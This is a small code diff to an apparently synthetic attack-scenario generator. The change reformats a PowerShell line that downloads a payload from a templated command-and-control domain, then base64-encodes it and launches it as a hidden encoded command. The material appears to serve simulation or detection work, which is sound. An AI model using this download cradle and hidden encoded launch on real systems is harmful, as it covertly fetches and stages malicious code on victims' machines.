@@ -86,7 +86,8 @@ def tell(scene: Scene, indicators: Indicators, begin: datetime) -> Chapter:
     at += timedelta(seconds=11)
     script = (
         "IEX(New-Object"
-        f" Net.WebClient).DownloadFile('https://{facts.c2_domain}/u/a.dat','{DROP}\\{facts.payload}')"
+        f" Net.WebClient).DownloadFile('https://{facts.c2_domain}/u/a.dat',"
+        f"'{DROP}\\{facts.payload}')"
     )
     encoded = base64.b64encode(script.encode("utf-16-le")).decode()
     command = f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {encoded}"
